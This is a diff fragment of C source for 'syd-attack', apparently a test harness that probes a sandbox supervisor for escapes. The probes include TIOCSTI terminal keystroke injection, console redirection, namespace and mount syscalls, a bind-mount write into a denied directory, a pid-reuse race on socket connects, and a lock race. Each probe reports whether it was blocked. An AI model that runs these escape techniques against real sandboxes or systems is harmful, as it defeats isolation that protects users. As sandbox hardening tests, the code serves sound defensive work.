+  printf("BLOCKED %s: victim alive (kill returned 0)\n", step);
+  return 1;
+}
+
+static int lab_child(char** cmd, int victim_pipe_r) {
+  pid_t c = fork();
+  if (c == 0) {
+    signal(SIGTERM, SIG_DFL);
+    if (dup2(victim_pipe_r, VICTIM_FD) < 0) _exit(126);
+    execvp(cmd[0], cmd);
+    _exit(127);
+  }
+  return c;
+}
+
+/* Starts a victim (default dispositions, pause) and CMD; reports whether
+ * the victim survived and exits with CMD's status. */
+static int lab_run(char** cmd) {
+  signal(SIGTERM, SIG_IGN);
+  int vp[2];
+  if (pipe(vp) != 0) return 100;
+  pid_t victim = fork();
+  if (victim == 0) {
+    signal(SIGTERM, SIG_DFL);
+    close(vp[0]);
+    alarm(20);
+    if (write(vp[1], "r", 1) != 1) _exit(1);  /* ready: SIGTERM kills it now */
+    for (;;) pause();
+  }
+  close(vp[1]);
+  char ready;
+  if (read(vp[0], &ready, 1) != 1) return 102;
+  printf("lab: victim %d, pgrp %d\n", victim, getpgrp());
+  fflush(stdout);
+  pid_t c = lab_child(cmd, vp[0]);
+  close(vp[0]);
+  int st = 0, vst = 0, victim_done = 0;
+  for (;;) {
+    int s;
+    pid_t w = waitpid(-1, &s, 0);
+    if (w < 0) {
+      if (errno == EINTR) continue;
+      break;
+    }
+    if (w == victim) victim_done = 1, vst = s;
+    if (w == c) {
+      st = s;
+      break;
+    }
+  }
+  sleep_ms(50);
+  if (!victim_done && waitpid(victim, &vst, WNOHANG) == victim) victim_done = 1;
+  if (victim_done)
+    printf("lab: victim died (%s %d)\n", WIFSIGNALED(vst) ? "signal" : "exit",
+           WIFSIGNALED(vst) ? WTERMSIG(vst) : WEXITSTATUS(vst));
+  else {
+    printf("lab: victim alive\n");
+    kill(victim, SIGKILL);
+    waitpid(victim, NULL, 0);
+  }
+  int code = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+  printf("lab: cmd status %d\n", code);
+  fflush(stdout);
+  return code;
+}
+
+/* init of a fresh pid namespace: a private /proc, then `body`; reaps
+ * everything. */
+static int ns_launch(int map_root, int (*body)(char**), char** cmd) {
+  int flags = CLONE_NEWPID | CLONE_NEWNS;
+  int e = (privileged() && !map_root) ? (unshare(flags) == 0 ? 0 : errno) : enter_userns(flags, map_root);
+  if (e) {
+    printf("lab: cannot create the namespaces: %s\n", en(e));
+    return 120;
+  }
+  fflush(stdout);
+  pid_t init = fork();
+  if (init < 0) return 121;
+  if (init == 0) {
+    alarm(60);
+    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
+        mount("proc", "/proc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) != 0) {
+      printf("lab: cannot mount /proc: %s\n", en(errno));
+      _exit(122);
+    }
+    _exit(body(cmd));
+  }
+  int st;
+  while (waitpid(init, &st, 0) < 0 && errno == EINTR) {
+  }
+  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
+static int run_plain(char** cmd) {
+  signal(SIGTERM, SIG_IGN);  /* pid 1 ignores it anyway; orphans are ours to reap */
+  pid_t c = fork();
+  if (c == 0) {
+    signal(SIGTERM, SIG_DFL);
+    execvp(cmd[0], cmd);
+    _exit(127);
+  }
+  int st = 0;
+  for (;;) {
+    int s;
+    pid_t w = waitpid(-1, &s, 0);
+    if (w < 0 && errno == EINTR) continue;
+    if (w < 0) break;
+    if (w == c) {
+      st = s;
+      break;
+    }
+  }
+  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
+static int signal_lab(int argc, char** argv) {
+  /* signal-lab pidns|pgrp|ns-run [--map-root] -- CMD... */
+  int i = 3, map_root = 0;
+  if (i < argc && strcmp(argv[i], "--map-root") == 0) map_root = 1, ++i;
+  if (i < argc && strcmp(argv[i], "--") == 0) ++i;
+  if (i >= argc) return 100;
+  char** cmd = argv + i;
+  if (strcmp(argv[2], "pgrp") == 0) {
+    if (setpgid(0, 0) != 0) return 101;
+    return lab_run(cmd);
+  }
+  if (strcmp(argv[2], "pidns") == 0) return ns_launch(map_root, lab_run, cmd);
+  if (strcmp(argv[2], "ns-run") == 0) return ns_launch(map_root, run_plain, cmd);
+  return 100;
+}
+
+/* ---- 6. terminal ---------------------------------------------------------- */
+static int tty_fd(void) {
+  for (int fd = 0; fd < 3; ++fd)
+    if (isatty(fd)) return fd;
+  return open("/dev/tty", O_RDWR | O_CLOEXEC);
+}
+
+static int tiocsti(const char* s) {
+  int fd = tty_fd();
+  if (fd < 0) return blocked("open tty", errno);
+  int n = 0;
+  for (const char* p = s; *p; ++p) {
+    char c = *p;
+    if (c == '\\' && p[1] == 'n') c = '\n', ++p;
+    if (ioctl(fd, TIOCSTI, &c) != 0) return blocked("ioctl(TIOCSTI)", errno);
+    ++n;
+  }
+  return escaped("tiocsti: %d bytes pushed into the terminal", n);
+}
+
+static int tioclinux(void) {
+  int fd = tty_fd();
+  if (fd < 0) return blocked("open tty", errno);
+  char sub = 3; /* TIOCL_PASTESEL */
+  if (ioctl(fd, TIOCLINUX, &sub) != 0) return blocked("ioctl(TIOCLINUX)", errno);
+  return escaped("tioclinux: paste accepted");
+}
+
+static int tioccons(void) {
+  int fd = tty_fd();
+  if (fd < 0) return blocked("open tty", errno);
+  if (ioctl(fd, TIOCCONS) != 0) return blocked("ioctl(TIOCCONS)", errno);
+  /* Undo at once: TIOCCONS on /dev/console ends the redirection. */
+  int c = open("/dev/console", O_WRONLY | O_NOCTTY | O_CLOEXEC);
+  int undone = c >= 0 && ioctl(c, TIOCCONS) == 0;
+  if (c >= 0) close(c);
+  return escaped("tioccons: console output redirected to our terminal (undone: %s)", undone ? "yes" : "NO");
+}
+
+/* ---- 7. namespaces and mounts ------------------------------------------------ */
+static const char* nsdir;
+
+static int in_ns_prelude(int flags) {
+  /* unprivileged: the namespace call carries CLONE_NEWUSER too */
+  return privileged() ? flags : (flags | CLONE_NEWUSER);
+}
+
+static int sub(const char* rel, char* out, size_t len) {
+  snprintf(out, len, "%s/%s", nsdir, rel);
+  return 0;
+}
+
+static long do_clone(unsigned long flags) {
+  long pid = syscall(__NR_clone, flags | SIGCHLD, 0, 0, 0, 0);
+  if (pid == 0) _exit(0);
+  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
+  return pid > 0 ? 0 : -1;
+}
+
+/* Each returns 0 or errno of the call named by the item. */
+static int item_unshare(int f) { return unshare(f == CLONE_NEWUSER ? f : in_ns_prelude(f)) == 0 ? 0 : errno; }
+
+static int item_clone(int f) { return do_clone(f == CLONE_NEWUSER ? (unsigned long)f : (unsigned long)in_ns_prelude(f)) == 0 ? 0 : errno; }
+
+static int item_clone3(void) {
+  struct sa_clone_args a;
+  memset(&a, 0, sizeof a);
+  a.flags = (uint64_t)in_ns_prelude(CLONE_NEWNS);
+  a.exit_signal = SIGCHLD;
+  long pid = syscall(__NR_clone3, &a, sizeof a);
+  if (pid == 0) _exit(0);
+  if (pid < 0) return errno;
+  waitpid((pid_t)pid, NULL, 0);
+  return 0;
+}
+
+static int item_setns(const char* name, int f) {
+  char path[64];
+  if (f == CLONE_NEWUSER) {
+    /* enter a child user namespace of ours, held open by a helper */
+    int p[2];
+    if (pipe(p) != 0) return 200;
+    pid_t h = fork();
+    if (h == 0) {
+      char c = unshare(CLONE_NEWUSER) == 0 ? 'y' : 'n';
+      if (write(p[1], &c, 1) != 1) _exit(1);
+      pause();
+      _exit(0);
+    }
+    char c = 'n';
+    if (read(p[0], &c, 1) != 1) c = 'n';
+    snprintf(path, sizeof path, "/proc/%d/ns/user", h);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    int r = fd >= 0 && setns(fd, CLONE_NEWUSER) == 0 ? 0 : errno;
+    kill(h, SIGKILL);
+    waitpid(h, NULL, 0);
+    return r;
+  }
+  if (!privileged()) (void)unshare(CLONE_NEWUSER | f);  /* so that we own a namespace of that type */
+  if (f == CLONE_NEWPID && !privileged()) {
+    /* the new pid namespace exists once its first process does */
+    pid_t h = fork();
+    if (h == 0) {
+      pause();
+      _exit(0);
+    }
+    snprintf(path, sizeof path, "/proc/%d/ns/pid", h);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    int r = fd < 0 ? 201 : setns(fd, CLONE_NEWPID) == 0 ? 0 : errno;
+    kill(h, SIGKILL);
+    waitpid(h, NULL, 0);
+    return r;
+  }
+  snprintf(path, sizeof path, "/proc/self/ns/%s%s", name, f == CLONE_NEWTIME && !privileged() ? "_for_children" : "");
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return 201;
+  return setns(fd, 0) == 0 ? 0 : errno;
+}
+
+static int item_chroot(void) {
+  if (!privileged()) (void)enter_userns(0, 0);
+  return chroot("/") == 0 ? 0 : errno;
+}
+
+/* For the mount family: a private mount namespace when one can be had;
+ * otherwise (the sandbox refused it) the call is still made, with arguments
+ * that cannot change anything outside (a missing source, a target that is no
+ * mount point), so the errno tells who refused. */
+static int mount_family(const char* item) {
+  char a[4096], b[4096], root[4096], missing[4096];
+  sub("a", a, sizeof a);
+  sub("b", b, sizeof b);
+  sub("root", root, sizeof root);
+  sub("missing", missing, sizeof missing);
+  int have_ns = private_mount_ns() == 0;
+#define IT(x) (strcmp(item, x) == 0)
+  if (IT("mount(MS_BIND)")) return mount(have_ns ? a : missing, b, NULL, MS_BIND, NULL) == 0 ? 0 : errno;
+  if (IT("mount(tmpfs)")) {
+    if (!have_ns) return mount("tmpfs", missing, "tmpfs", 0, NULL) == 0 ? 0 : errno;
+    return mount("tmpfs", b, "tmpfs", 0, NULL) == 0 ? 0 : errno;
+  }
+  if (IT("umount2")) {
+    if (have_ns) (void)mount(a, b, NULL, MS_BIND, NULL);
+    return umount2(b, 0) == 0 ? 0 : errno;
+  }
+  if (IT("pivot_root")) {
+    if (have_ns) (void)mount(root, root, NULL, MS_BIND | MS_REC, NULL);
+    if (chdir(root) != 0) return 202;
+    return syscall(__NR_pivot_root, ".", ".") == 0 ? 0 : errno;
+  }
+  if (IT("open_tree")) {
+    long fd = syscall(__NR_open_tree, AT_FDCWD, a, SA_OPEN_TREE_CLONE | SA_OPEN_TREE_CLOEXEC);
+    return fd >= 0 ? 0 : errno;
+  }
+  if (IT("move_mount")) {
+    long fd = have_ns ? syscall(__NR_open_tree, AT_FDCWD, a, SA_OPEN_TREE_CLONE | SA_OPEN_TREE_CLOEXEC) : -1;
+    return syscall(__NR_move_mount, (int)fd, "", AT_FDCWD, b, SA_MOVE_MOUNT_F_EMPTY_PATH) == 0 ? 0 : errno;
+  }
+  if (IT("fsopen")) return syscall(__NR_fsopen, "tmpfs", SA_FSOPEN_CLOEXEC) >= 0 ? 0 : errno;
+  if (IT("fsconfig") || IT("fsmount")) {
+    long fd = syscall(__NR_fsopen, "tmpfs", SA_FSOPEN_CLOEXEC);
+    long r = syscall(__NR_fsconfig, (int)fd, SA_FSCONFIG_CMD_CREATE, NULL, NULL, 0);
+    if (IT("fsconfig")) return r == 0 ? 0 : errno;
+    return syscall(__NR_fsmount, (int)fd, SA_FSMOUNT_CLOEXEC, 0) >= 0 ? 0 : errno;
+  }
+  if (IT("fspick")) return syscall(__NR_fspick, AT_FDCWD, "/", SA_FSPICK_CLOEXEC) >= 0 ? 0 : errno;
+  if (IT("mount_setattr")) {
+    if (have_ns) (void)mount(a, b, NULL, MS_BIND, NULL);
+    struct sa_mount_attr at = {SA_MOUNT_ATTR_RDONLY, 0, 0, 0};
+    return syscall(__NR_mount_setattr, AT_FDCWD, b, 0, &at, sizeof at) == 0 ? 0 : errno;
+  }
+#undef IT
+  return 203;
+}
+
+struct ns_item {
+  const char* name;
+  int kind; /* 0 unshare, 1 clone, 2 clone3, 3 setns, 4 chroot, 5 mount family */
+  int flag;
+  const char* ns;
+};
+
+static int run_item(const struct ns_item* it) {
+  switch (it->kind) {
+    case 0: return item_unshare(it->flag);
+    case 1: return item_clone(it->flag);
+    case 2: return item_clone3();
+    case 3: return item_setns(it->ns, it->flag);
+    case 4: return item_chroot();
+    default: return mount_family(it->name);
+  }
+}
+
+static int ns_calls(const char* dir) {
+  nsdir = dir;
+  static const struct ns_item items[] = {
+      {"unshare(CLONE_NEWNS)", 0, CLONE_NEWNS, 0},
+      {"unshare(CLONE_NEWUSER)", 0, CLONE_NEWUSER, 0},
+      {"unshare(CLONE_NEWPID)", 0, CLONE_NEWPID, 0},
+      {"unshare(CLONE_NEWNET)", 0, CLONE_NEWNET, 0},
+      {"unshare(CLONE_NEWUTS)", 0, CLONE_NEWUTS, 0},
+      {"unshare(CLONE_NEWIPC)", 0, CLONE_NEWIPC, 0},
+      {"unshare(CLONE_NEWCGROUP)", 0, CLONE_NEWCGROUP, 0},
+      {"unshare(CLONE_NEWTIME)", 0, CLONE_NEWTIME, 0},
+      {"clone(CLONE_NEWUSER)", 1, CLONE_NEWUSER, 0},
+      {"clone(CLONE_NEWNS)", 1, CLONE_NEWNS, 0},
+      {"clone(CLONE_NEWPID)", 1, CLONE_NEWPID, 0},
+      {"clone(CLONE_NEWNET)", 1, CLONE_NEWNET, 0},
+      {"clone3(CLONE_NEWNS)", 2, CLONE_NEWNS, 0},
+      {"setns(net)", 3, CLONE_NEWNET, "net"},
+      {"setns(uts)", 3, CLONE_NEWUTS, "uts"},
+      {"setns(ipc)", 3, CLONE_NEWIPC, "ipc"},
+      {"setns(mnt)", 3, CLONE_NEWNS, "mnt"},
+      {"setns(cgroup)", 3, CLONE_NEWCGROUP, "cgroup"},
+      {"setns(pid)", 3, CLONE_NEWPID, "pid"},
+      {"setns(time)", 3, CLONE_NEWTIME, "time"},
+      {"setns(user)", 3, CLONE_NEWUSER, "user"},
+      {"chroot", 4, 0, 0},
+      {"mount(MS_BIND)", 5, 0, 0},
+      {"mount(tmpfs)", 5, 0, 0},
+      {"umount2", 5, 0, 0},
+      {"pivot_root", 5, 0, 0},
+      {"open_tree", 5, 0, 0},
+      {"move_mount", 5, 0, 0},
+      {"fsopen", 5, 0, 0},
+      {"fsconfig", 5, 0, 0},
+      {"fsmount", 5, 0, 0},
+      {"fspick", 5, 0, 0},
+      {"mount_setattr", 5, 0, 0},
+  };
+  int oks = 0;
+  for (size_t i = 0; i < sizeof items / sizeof items[0]; ++i) {
+    fflush(stdout);
+    pid_t c = fork();
+    if (c == 0) {
+      alarm(5);
+      _exit(run_item(&items[i]));
+    }
+    int st;
+    while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
+    }
+    int r = WIFEXITED(st) ? WEXITSTATUS(st) : 250;
+    if (r == 0) ++oks, printf("%s: OK\n", items[i].name);
+    else if (r >= 200) printf("%s: SETUP-FAILED(%d)\n", items[i].name, r);
+    else printf("%s: %s\n", items[i].name, en(r));
+  }
+  if (oks) return escaped("ns-calls: %d calls succeeded", oks);
+  return blocked("ns-calls (every call)", EPERM);
+}
+
+/* ---- 8. the bind-mount write ------------------------------------------------ */
+static int bindmount_write(const char* allowed, const char* denied) {
+  /* Unprivileged: a user namespace for the capability to mount. No id maps
+   * are written (a write sandbox may well refuse /proc/self/uid_map): the
+   * capabilities in the new namespace do not depend on them. */
+  int e = unshare(privileged() ? CLONE_NEWNS : (CLONE_NEWUSER | CLONE_NEWNS)) == 0 ? 0 : errno;
+  if (e) return blocked(privileged() ? "unshare(CLONE_NEWNS)" : "unshare(CLONE_NEWUSER|CLONE_NEWNS)", e);
+  if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) return blocked("mount(MS_PRIVATE)", errno);
+  if (mount(denied, allowed, NULL, MS_BIND, NULL) != 0) return blocked("mount(MS_BIND)", errno);
+  char path[4096];
+  snprintf(path, sizeof path, "%s/secret", allowed);
+  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+  if (fd < 0) return blocked("open", errno);
+  if (write(fd, "pwned\n", 6) != 6) return blocked("write", errno);
+  close(fd);
+  return escaped("bindmount-write: %s landed in %s/secret", path, denied);
+}
+
+/* ---- 9. connect after pid reuse ------------------------------------------------ */
+static int connect_reuse(const char* slowpath, int rounds) {
+  struct sockaddr_un un;
+  memset(&un, 0, sizeof un);
+  un.sun_family = AF_UNIX;
+  if (strlen(slowpath) >= sizeof un.sun_path) return blocked("path too long", ENAMETOOLONG);
+  strcpy(un.sun_path, slowpath);
+  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
+  if (lp < 0) return blocked("open ns_last_pid", errno);
+  int last_pid = fcntl(lp, F_DUPFD_CLOEXEC, 10);
+  close(lp);
+  /* fd 3 is C's and D's socket; /dev/null holds the place in between */
+  int null = open("/dev/null", O_RDONLY | O_CLOEXEC);
+  int null_fd = fcntl(null, F_DUPFD_CLOEXEC, 10);
+  close(null);
+  long delay_us = getenv("SYD_ATTACK_DELAY_US") ? atol(getenv("SYD_ATTACK_DELAY_US")) : 3000;
+  int reused = 0, stolen = 0;
+  for (int round = 1; round <= rounds; ++round) {
+    dup2(null_fd, 3);
+    int ready[2];
+    if (pipe2(ready, O_CLOEXEC) != 0) return 100;
+    pid_t c = fork();
+    if (c == 0) {
+      int s = socket(AF_UNIX, SOCK_STREAM, 0);
+      if (s < 0 || dup2(s, 3) != 3) _exit(3);
+      if (write(ready[1], "c", 1) != 1) _exit(4);
+      long r = connect(3, (struct sockaddr*)&un, sizeof un);
+      (void)r;
+      for (;;) pause();
+    }
+    close(ready[1]);
+    char ch;
+    if (read(ready[0], &ch, 1) != 1) return 101;
+    close(ready[0]);
+    usleep((useconds_t)delay_us);  /* the supervisor is now resolving the slow path */
+    kill(c, SIGKILL);
+    waitpid(c, NULL, 0);
+    char num[32];
+    snprintf(num, sizeof num, "%d", c - 1);
+    if (pwrite(last_pid, num, strlen(num), 0) < 0) return blocked("write ns_last_pid", errno);
+    /* D's fresh, unconnected socket is at fd 3 from its first instant. */
+    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    if (s < 0 || dup2(s, 3) != 3) return 102;
+    close(s);
+    pid_t d = fork();
+    if (d == 0) {
+      if (getpid() != c) _exit(2);
+      long end = now_ms() + 600;
+      while (now_ms() < end) {
+        struct sockaddr_un peer;
+        socklen_t pl = sizeof peer;
+        if (getpeername(3, (struct sockaddr*)&peer, &pl) == 0) _exit(0);
+        sleep_ms(2);
+      }
+      _exit(1);
+    }
+    dup2(null_fd, 3);
+    int st;
+    waitpid(d, &st, 0);
+    int r = WIFEXITED(st) ? WEXITSTATUS(st) : 255;
+    if (r != 2) ++reused;
+    if (r == 0) ++stolen;
+    printf("round %d: C=%d D=%d %s\n", round, c, d,
+           r == 0 ? "D's socket was connected by someone else" : r == 1 ? "D's socket untouched" : "pid not reused");
+    fflush(stdout);
+  }
+  printf("# pid reused in %d of %d rounds\n", reused, rounds);
+  if (stolen) return escaped("connect-reuse: a dead caller's connect was made on the socket of pid reuser (%d of %d rounds)", stolen, rounds);
+  if (!reused) return blocked("pid reuse", EAGAIN);
+  printf("BLOCKED connect-reuse: no reused pid's socket was connected\n");
+  return 1;
+}
+
+/* ---- 11. magic lock race ------------------------------------------------------- */
+static atomic_int race_go;
+
+static atomic_int race_stop;
+static void* race_thread(void* arg) {
+  const char* path = arg;
+  while (!atomic_load(&race_go)) {
+  }
+  struct stat st;
+  syscall(__NR_stat, path, &st);
+  return NULL;
+}
+
+/* Keeps changing another part of the per-process state until told to stop. */
+static void* race_hammer(void* arg) {
+  const char* path = arg;
+  while (!atomic_load(&race_go)) {
+  }
+  struct stat st;
+  while (!atomic_load(&race_stop)) syscall(__NR_stat, path, &st);
+  return NULL;
+}
+
+/* Denied creations keep the supervisor's workers handing the receiving
+ * role over (each report may block), so that two of them answer at once. */
+static atomic_int noise_stop;
+static void* noise_thread(void* arg) {
+  while (!atomic_load(&noise_stop)) {
+    long fd = syscall(__NR_creat, (const char*)arg, 0644);
+    if (fd >= 0) close((int)fd);
+  }
+  return NULL;
+}
+
+static int env_int(const char* name, int def, int max) {
+  const char* v = getenv(name);
+  int x = v ? atoi(v) : def;
+  return x < 0 ? 0 : x > max ? max : x;
+}
+
+static int magic_race(int n, const char* noise) {
+  int lost = 0, other = 0;
+  const int nnoise = env_int("SYD_RACE_NOISE", 1, 8), nhammer = env_int("SYD_RACE_HAMMERS", 2, 8);
+  for (int i = 0; i < n; ++i) {
+    pid_t c = fork();
+    if (c == 0) {
+      atomic_store(&race_go, 0);
+      pthread_t a, b[8], z[8];
+      for (int k = 0; noise && k < nnoise; ++k) pthread_create(&z[k], NULL, noise_thread, (void*)noise);
+      for (int k = 0; k < nhammer; ++k) pthread_create(&b[k], NULL, race_hammer, "/dev/sydbox/core/trace/magic_lock:exec");
+      pthread_create(&a, NULL, race_thread, "/dev/sydbox/core/trace/magic_lock:on");
+      sleep_ms(1);
+      atomic_store(&race_go, 1);
+      pthread_join(a, NULL);
+      sleep_ms(1);
+      atomic_store(&race_stop, 1);
+      for (int k = 0; k < nhammer; ++k) pthread_join(b[k], NULL);
+      atomic_store(&noise_stop, 1);
+      for (int k = 0; noise && k < nnoise; ++k) pthread_join(z[k], NULL);
+      struct stat st;
+      long r = syscall(__NR_stat, "/dev/sydbox/core/sandbox/write?", &st);
+      _exit(r == 0 ? 1 : errno == ENOENT ? 0 : 2);
+    }
+    int st;
+    waitpid(c, &st, 0);
+    int r = WIFEXITED(st) ? WEXITSTATUS(st) : 3;
+    if (r == 1) ++lost;
+    else if (r != 0) ++other;
+  }
+  printf("# magic-race: lock lost in %d of %d processes (%d odd)\n", lost, n, other);
+  if (lost) return escaped("magic-race: the lock was lost in %d of %d processes", lost, n);
+  return blocked("magic-race (every process locked)", ENOENT);
+}
+
+int main(int argc, char** argv) {
+  if (argc < 2) {
+    fprintf(stderr, "usage: syd-attack MODE ARG...\n");
+    return 100;
+  }
+  setvbuf(stdout, NULL, _IOLBF, 0);
+  const char* m = argv[1];
+  const char* a = argc > 2 ? argv[2] : "";
+  const char* b = argc > 3 ? argv[3] : "";
+#define IS(x) (strcmp(m, x) == 0)
+  if (IS("steal-listener")) return steal_listener(a);
+  if (IS("naive-supervisor")) return naive_supervisor(a);
+  if (IS("parent-wait") && argc > 2) return parent_wait(argv + 2);
+  if (IS("signal-parent")) return signal_parent(a);
+  if (IS("proc-parent")) return proc_parent();
+  if (IS("prio-parent")) return prio_parent();
+  if (IS("proc-layout")) return proc_layout();
+  if (IS("proc-knobs")) return proc_knobs();
+  if (IS("kill-outside")) return kill_outside(a);
+  if (IS("signal-lab") && argc > 3) return signal_lab(argc, argv);
+  if (IS("tiocsti")) return tiocsti(a);
+  if (IS("tioclinux")) return tioclinux();
+  if (IS("tioccons")) return tioccons();
+  if (IS("ns-calls")) return ns_calls(a);
+  if (IS("bindmount-write")) return bindmount_write(a, b);
+  if (IS("connect-reuse")) return connect_reuse(a, argc > 3 ? atoi(b) : 3);
+  if (IS("magic-race")) return magic_race(argc > 2 ? atoi(a) : 200, argc > 3 ? b : NULL);
+#undef IS
+  fprintf(stderr, "syd-attack: unknown mode %s\n", m);
+  return 100;
+}
